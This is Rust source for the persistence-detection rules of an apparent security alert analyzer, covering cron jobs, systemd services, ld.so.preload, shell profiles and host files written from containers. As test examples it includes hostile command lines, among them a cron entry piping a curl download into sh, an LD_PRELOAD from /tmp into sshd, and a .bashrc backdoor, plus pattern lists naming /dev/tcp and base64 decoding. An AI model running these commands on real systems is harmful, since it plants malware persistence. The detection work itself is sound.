//! Staying: what runs again tomorrow, and who may come back.

use super::kinds::Kinds;
use super::words::{holds_any, parts};
use super::{Finds, Hit, Indicator};
use crate::analysis::facts::Facts;
use crate::analysis::paths::{self, base_name};
use crate::cmdline::is_shell;

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "cron-job-written",
        finds: Finds::Kind(Kinds::WRITES, &["crontab"], |seen| {
            seen.writes(is_cron)
                || (seen.name == "crontab"
                    && (seen.fed_by(|c| matches!(c.program(), "echo" | "printf" | "cat"))
                        || seen.operands().any(super::execution::is_scratch)))
        }),
        weight: 45,
        techniques: &["T1053.003"],
        reason: "A schedule is written by a command line and not by a package or an editor.",
        refuted_by: "A provisioning script of yours that installs this job; read the job itself.",
        example: &[("proc.cmdline", "sh -c echo '0 3 * * * root /opt/b.sh' > /etc/cron.d/b")],
        look_alike: &[("proc.cmdline", "crontab -l")],
    },
    Indicator {
        id: "cron-job-that-attacks",
        finds: Finds::Kind(Kinds::WRITES, &["crontab"], |seen| {
            let to_cron = seen.writes(is_cron);
            if !to_cron && seen.name != "crontab" && seen.written().next().is_none() {
                return false;
            }
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            let kept = to_cron || (looks_scheduled(&text) && seen.written().next().is_some());
            let fed = |command: &crate::cmdline::Command| {
                is_attack_schedule(&command.arg_texts().collect::<Vec<_>>().join(" "))
            };
            (kept && is_attack_schedule(&text)) || (seen.name == "crontab" && seen.fed_by(fed))
        }),
        weight: 82,
        techniques: &["T1053.003", "T1105"],
        reason: "The schedule runs a download, a decoded text or a file from scratch space: malware comes back so.",
        refuted_by: "Nothing that is known to be harmless writes such a job.",
        example: &[(
            "proc.cmdline",
            "sh -c (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.5/a | sh') | crontab -",
        )],
        look_alike: &[("proc.cmdline", "sh -c echo '0 3 * * * root /opt/b.sh' > /etc/cron.d/b")],
    },
    Indicator {
        id: "cron-file-written-by-hand",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| is_cron(path))?;
            (writes(facts) && is_general_tool(facts)).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 40,
        techniques: &["T1053.003"],
        reason: "A shell or a general tool writes a schedule, past packages and editors.",
        refuted_by: "A provisioning script of yours that installs this job; read the job itself.",
        example: &[("rule", "Write below etc"), ("proc.name", "bash"), ("fd.name", "/etc/cron.d/x")],
        look_alike: &[("rule", "Write below etc"), ("proc.name", "dpkg"), ("fd.name", "/etc/cron.d/x.dpkg-new")],
    },
    Indicator {
        id: "host-schedule-written-from-container",
        finds: Finds::Kind(Kinds::WRITES, &[], |seen| {
            seen.writes(|path| {
                let inner = is_mounted_host(path);
                inner
                    && holds_any(
                        path,
                        parts![
                            "/cron",
                            "/etc/systemd/",
                            "/.ssh/",
                            "/etc/passwd",
                            "/etc/shadow",
                            "/etc/sudoers",
                            "/etc/ld.so.preload",
                            "/etc/rc.local",
                        ],
                    )
            })
        }),
        weight: 80,
        techniques: &["T1611", "T1053.003"],
        reason: "From a container, a file is written on the host that makes the host run or admit something.",
        refuted_by: "A node agent of yours that provisions hosts so, by its manifest.",
        example: &[("proc.cmdline", "sh -c echo '* * * * * root id' >> /mnt/etc/crontabs/root")],
        look_alike: &[("proc.cmdline", "sh -c echo ok > /mnt/etc/motd")],
    },
    Indicator {
        id: "loader-preload-written",
        finds: Finds::Kind(Kinds::WRITES, &[], |seen| {
            seen.writes(|path| paths::below_host(path) == "/etc/ld.so.preload" || path.ends_with("/etc/ld.so.preload"))
        }),
        weight: 80,
        techniques: &["T1574.006"],
        reason: "A library is forced into every program of the machine: how user-space rootkits hide and listen.",
        refuted_by: "A monitoring library of yours that is installed so; look at the library.",
        example: &[("proc.cmdline", "sh -c echo /tmp/x.so > /etc/ld.so.preload")],
        look_alike: &[("proc.cmdline", "sh -c cat /etc/ld.so.preload")],
    },
    Indicator {
        id: "loader-preload-file",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| path.ends_with("/etc/ld.so.preload"))?;
            writes(facts).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 72,
        techniques: &["T1574.006"],
        reason: "The file that forces a library into every program of the machine is written.",
        refuted_by: "A monitoring library of yours that is installed so; look at the library.",
        example: &[("rule", "Write below etc"), ("proc.name", "sh"), ("fd.name", "/etc/ld.so.preload")],
        look_alike: &[
            ("rule", "Read sensitive file untrusted"),
            ("proc.name", "sh"),
            ("fd.name", "/etc/ld.so.preload"),
            ("evt.arg.flags", "O_RDONLY"),
        ],
    },
    Indicator {
        id: "library-preloaded-from-scratch-space",
        finds: Finds::Kind(Kinds::ENVIRONMENT, &[], |seen| {
            seen.command.environment().any(|(name, value)| {
                name == "LD_PRELOAD"
                    && value.split([':', ' ']).any(|path| super::execution::is_scratch(path) || path.starts_with("./"))
            })
        }),
        weight: 72,
        techniques: &["T1574.006"],
        reason: "A library from scratch space is forced into a program.",
        refuted_by: "A test harness that builds and preloads its own library.",
        example: &[("proc.cmdline", "sh -c LD_PRELOAD=/tmp/x.so sshd -D")],
        look_alike: &[("proc.cmdline", "sh -c LD_PRELOAD=/usr/lib/libjemalloc.so redis-server")],
    },
    Indicator {
        id: "service-written-by-hand",
        finds: Finds::Kind(Kinds::WRITES, &[], |seen| {
            seen.writes(|path| {
                let path = paths::below_host(path);
                (path.contains("/systemd/system/") && path.ends_with(".service"))
                    || path.starts_with("/etc/init.d/")
                    || matches!(path, "/etc/rc.local" | "/etc/rc.d/rc.local" | "/etc/inittab")
            })
        }),
        weight: 40,
        techniques: &["T1543.002", "T1037.004"],
        reason: "A service is written by a command line and not by a package: it starts again with the machine.",
        refuted_by: "A provisioning script of yours that installs this service; read the service.",
        example: &[("proc.cmdline", "sh -c echo x > /etc/systemd/system/x.service")],
        look_alike: &[("proc.cmdline", "systemctl status x.service")],
    },
    Indicator {
        id: "service-that-attacks",
        finds: Finds::Command(&[], |seen| {
            if !seen.may_hold(parts!["ExecStart="]) {
                return false;
            }
            let text: String = seen
                .args()
                .chain(seen.command.redirections.iter().map(|r| r.target.text.as_str()))
                .collect::<Vec<_>>()
                .join(" ");
            text.contains("ExecStart=")
                && (text
                    .split("ExecStart=")
                    .skip(1)
                    .any(|rest| rest.split_ascii_whitespace().next().is_some_and(super::execution::is_scratch))
                    || holds_any(&text, parts!["| sh", "|sh", "| bash", "|bash", "/dev/tcp/", "base64 -d"]))
        }),
        weight: 82,
        techniques: &["T1543.002"],
        reason: "The service runs a file from scratch space, a download or a remote shell.",
        refuted_by: "Nothing that is known to be harmless is installed so.",
        example: &[(
            "proc.cmdline",
            "sh -c printf '[Service]\\nExecStart=/tmp/kw\\n' > /etc/systemd/system/kw.service",
        )],
        look_alike: &[(
            "proc.cmdline",
            "sh -c printf '[Service]\\nExecStart=/usr/bin/app\\n' > /etc/systemd/system/app.service",
        )],
    },
    Indicator {
        id: "profile-that-attacks",
        finds: Finds::Command(&["echo", "printf", "cat", "tee", "sed"], |seen| {
            if !seen.writes(is_profile) {
                return false;
            }
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            holds_any(
                &text,
                parts![
                    "| sh",
                    "|sh",
                    "| bash",
                    "|bash",
                    "/dev/tcp/",
                    "nohup",
                    "base64",
                    "/tmp/",
                    "/dev/shm/",
                    "alias sudo",
                    "alias ssh",
                    "LD_PRELOAD",
                ],
            )
        }),
        weight: 75,
        techniques: &["T1546.004"],
        reason: "A command is put where every login runs it: a download, a file from scratch space or a trap for passwords.",
        refuted_by: "Nothing that is known to be harmless writes such a profile.",
        example: &[("proc.cmdline", "sh -c echo 'nohup /tmp/k &' >> /root/.bashrc")],
        look_alike: &[("proc.cmdline", "sh -c echo 'export PATH=$PATH:/opt/bin' >> /root/.bashrc")],
    },
    Indicator {
        id: "host-login-file-written-from-container",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| {
                is_mounted_host(path)
                    && holds_any(
                        path,
                        parts![
                            "/.ssh/authorized_keys",
                            "/etc/cron",
                            "/var/spool/cron",
                            "/etc/passwd",
                            "/etc/shadow",
                            "/etc/sudoers",
                            "/etc/ld.so.preload",
                            "/etc/systemd/system/",
                            "/etc/rc.local",
                            "/etc/profile",
                        ],
                    )
            })?;
            (facts.in_container() && writes(facts) && is_general_tool(facts)).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 80,
        techniques: &["T1611", "T1098.004"],
        reason: "From a container, a shell writes a file of the host that decides who may log in or what runs.",
        refuted_by: "A node agent of yours that provisions hosts so, by its manifest.",
        example: &[
            ("container.id", "c1"),
            ("proc.name", "bash"),
            ("evt.arg.flags", "O_WRONLY"),
            ("fd.name", "/host/root/.ssh/authorized_keys"),
        ],
        look_alike: &[
            ("container.id", "c1"),
            ("proc.name", "bash"),
            ("evt.arg.flags", "O_RDONLY"),
            ("fd.name", "/host/root/.ssh/authorized_keys"),
        ],
    },
];

/// Files in which schedules are kept.
fn is_cron(path: &str) -> bool {
    holds_any(path, parts!["/etc/cron", "/var/spool/cron", "/etc/anacrontab", "/var/spool/at", "/crontabs/"])
}

/// A schedule that runs a download, a decoded text, a remote shell or a file from scratch space.
fn is_attack_schedule(text: &str) -> bool {
    let shells = parts![
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "base64 -d",
        "base64 --decode",
        "/dev/tcp/",
        "python -c",
        "python3 -c"
    ];
    let hides = text.split_ascii_whitespace().any(|word| super::execution::is_scratch(word) || word.contains("/./"));
    looks_scheduled(text) && (hides || holds_any(text, shells))
}

fn looks_scheduled(text: &str) -> bool {
    text.contains("* * *") || text.contains("@reboot") || text.contains("@hourly") || text.contains("@daily")
}

/// Whether the event writes its file, by its flags or by its rule.
pub(super) fn writes(facts: &Facts<'_>) -> bool {
    let rule = facts.alert.rule();
    facts.file.written.unwrap_or_else(|| {
        ["Write", "Modify", "Adding", "Create", "Update", "Delete"].iter().any(|word| rule.starts_with(word))
            || rule.to_ascii_lowercase().contains("write")
    })
}

/// Whether a shell or a tool that writes whatever it is told to did it.
pub(super) fn is_general_tool(facts: &Facts<'_>) -> bool {
    const TOOLS: &[&str] = &[
        "tee", "cp", "mv", "sed", "curl", "wget", "cat", "echo", "dd", "base64", "perl", "nc", "scp", "install",
        "busybox",
    ];
    facts.process.program.label().is_some_and(|name| is_shell(name) || TOOLS.contains(&name))
        || facts.process.program.name.is_some_and(|name| is_shell(name) || TOOLS.contains(&name))
}

/// A path inside a mount of the host.
fn is_mounted_host(path: &str) -> bool {
    paths::below_host(path).len() < path.len() || path.starts_with("/mnt/")
}

fn is_profile(path: &str) -> bool {
    matches!(
        base_name(path),
        ".bashrc"
            | ".profile"
            | ".bash_profile"
            | ".zshrc"
            | ".bash_login"
            | ".zprofile"
            | "profile"
            | "bash.bashrc"
            | ".bash_logout"
    ) || path.starts_with("/etc/profile.d/")
        || path.starts_with("/etc/update-motd.d/")
}
